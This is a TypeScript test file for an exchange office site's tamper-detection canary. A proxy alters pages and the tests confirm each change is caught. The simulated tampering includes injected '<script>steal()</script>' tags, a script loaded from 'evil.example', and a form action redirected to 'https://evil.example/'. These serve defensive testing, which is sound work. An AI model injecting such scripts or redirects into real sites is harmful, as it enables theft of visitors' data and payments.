import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import pino from 'pino'
import { afterAll, beforeEach, expect, test } from 'vitest'
import type { PayTo } from '#contract/claims/claim.ts'
import { endAlarm, listAlarms, raiseAlarm } from '#server/alarms/alarms.store.ts'
import { openCanary } from '#server/canary/canary.feature.ts'
import { lookFromOutside } from '#server/canary/look-from-outside.ts'
import { claimKey } from '#server/claims/claim-key.ts'
import { claimOpened } from '#server/claims/emails/claim-opened.ts'
import { putInOutbox } from '#server/emails/outbox.ts'
import { demoRail } from '#server/rails/demo/demo-rail.ts'
import { TEST_SECRET } from '#test/fixtures/secret.ts'
import { openClaimsOffice } from '#test/harness/claims-office.ts'
import { startOfficeInProcess } from '#test/harness/office.ts'

const office = await startOfficeInProcess()
await office.db.updateTable('directions').set({ hours: null }).execute()
await office.db.updateTable('office').set({ contact_email: 'help@office.example' }).execute()
const claims = await openClaimsOffice(office.db, { at: new Date(), rail: demoRail })
const { id } = await claims.open('SBERRUB', 'LTC', '9000')
const { pay_to } = await office.db.selectFrom('claims').select('pay_to').where('id', '=', id).executeTakeFirstOrThrow()
const account = (pay_to as PayTo).fields[0]!.value

/** A proxy before the office, which may change what passes through it. */
let change = (_path: string, text: string): string => text
const proxy = createServer(async (request, response) => {
  const headers = Object.fromEntries(
    Object.entries(request.headers).filter(([name]) => !['host', 'connection', 'accept-encoding'].includes(name)),
  ) as Record<string, string>
  const answer = await fetch(office.url + request.url, { headers, redirect: 'manual' })
  const type = answer.headers.get('content-type') ?? ''
  response.writeHead(answer.status, { 'content-type': type, location: answer.headers.get('location') ?? '' })
  response.end(change(request.url ?? '', await answer.text()))
}).listen(0, '127.0.0.1')
await once(proxy, 'listening')
const origin = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`
afterAll(() => void proxy.close())

const deps = {
  db: office.db,
  secret: TEST_SECRET,
  origin,
  // Its pages have the address of this process, and the proxy leaves that as it is.
  askItself: (path: string, headers: Record<string, string>) =>
    fetch(office.url + path, { headers, redirect: 'manual' as const }),
  pauseMs: 200,
}
const look = () => lookFromOutside(deps)

beforeEach(() => {
  change = (_, text) => text
})

/** Another digit or letter of its own kind in the place before the last. */
const otherSign = (text: string) => {
  const at = text.length - 2
  return text.slice(0, at) + (text[at] === '7' ? '3' : '7') + text.slice(at + 1)
}
const replaceEvery = (from: string, to: string) => (_: string, text: string) => text.replaceAll(from, to)

test('a busy office is shown as it is: rates that move while it is read are no difference', async () => {
  for (let n = 0; n < 3; n++) expect(await look()).toEqual([])
})

test.each<[string, string, (path: string, text: string) => string]>([
  ['one digit of the account of an order', `/claim/${id}`, replaceEvery(account, otherSign(account))],
  ['a script', '/', (path, text) => (path === '/' ? text.replace('</head>', '<script>steal()</script></head>') : text)],
  [
    'a script of another site',
    '/contacts',
    (path, text) =>
      path === '/contacts' ? text.replace('</body>', '<script src="https://evil.example/x.js"></script></body>') : text,
  ],
  ['the content of a script', '.js', (path, text) => (path.endsWith('.js') ? `${text};steal()` : text)],
  ['where the office is written to', '/contacts', replaceEvery('help@office.example', 'help@0ffice.example')],
  ['where a form is sent', '/', (_, text) => text.replaceAll('action="/', 'action="https://evil.example/')],
  [
    'a rate in the file for monitors',
    '/export/rates.json',
    (path, text) =>
      path.startsWith('/export/rates.json')
        ? text.replace(/("out":")(\d)/, (_, name, digit) => `${name}${Number(digit) === 9 ? 8 : Number(digit) + 1}`)
        : text,
  ],
  [
    'a rate of the calculator',
    '/api/v1/calculator/',
    (path, text) =>
      path.startsWith('/api/v1/calculator/')
        ? text.replace(/("get":")(\d)/, (_, name, digit) => `${name}${Number(digit) === 9 ? 8 : Number(digit) + 1}`)
        : text,
  ],
  ['a page that leads elsewhere', '/rules', (path, text) => (path === '/rules' ? '' : text)],
])('%s is seen', async (_, place, tampering) => {
  change = tampering
  const seen = await look()
  expect(seen.map(({ place }) => place)).toContainEqual(expect.stringContaining(place))
})

test('a letter about an order that names another account or leads elsewhere is seen', async () => {
  const data = { ...claimOpened.sample, page: `/claim/${id}?key=${claimKey(id, TEST_SECRET)}` } as const
  const put = (own: object) =>
    office.db.transaction().execute(tx =>
      putInOutbox(tx, {
        kind: claimOpened,
        to: 'a@example.com',
        locale: 'ru',
        data: { ...data, ...own },
        at: new Date(),
        afterMs: 600_000,
      }),
    )
  await put({})
  expect(await look()).toEqual([])
  await put({ payee: '5500 0000 0000 0004' })
  expect(await look()).toEqual([{ place: `claim-opened ${id}`, shown: '5500000000000004', expected: '' }])
  await office.db.deleteFrom('outbox').execute()
  await put({ page: `/claim/${id}?key=another` })
  expect(await look()).toMatchObject([{ place: `claim-opened ${id}`, expected: `/claim/${id}` }])
  await office.db.deleteFrom('outbox').execute()
})

test('staff are called at once for what differs, and after three looks for what cannot be read', async () => {
  const calls = { log: pino({ level: 'silent' }), now: () => new Date() }
  const alarm = (raised: Parameters<typeof raiseAlarm>[1]) => raiseAlarm(office.db, raised, new Date())
  const end = (ended: Parameters<typeof endAlarm>[1]) => endAlarm(office.db, ended, new Date())
  const kinds = async () =>
    (await listAlarms(office.db, { settled: false })).map(({ kind, subject }) => `${kind} ${subject}`)
  const canary = openCanary({ ...deps, ...calls, alarm, endAlarm: end })
  await canary()
  expect(await kinds()).not.toContainEqual(expect.stringContaining('pages'))
  change = (path, text) => (path === '/contacts' ? text.replace('help@', 'held@') : text)
  await canary()
  expect(await kinds()).toContain('pages-differ /contacts')

  const nowhere = openCanary({ ...deps, ...calls, alarm, endAlarm: end, origin: 'http://127.0.0.1:9' })
  await nowhere()
  await nowhere()
  expect(await kinds()).not.toContain('pages-unread pages')
  await nowhere()
  expect(await kinds()).toContain('pages-unread pages')
  change = (_, text) => text
  await canary()
  expect(await kinds()).not.toContain('pages-unread pages')
})
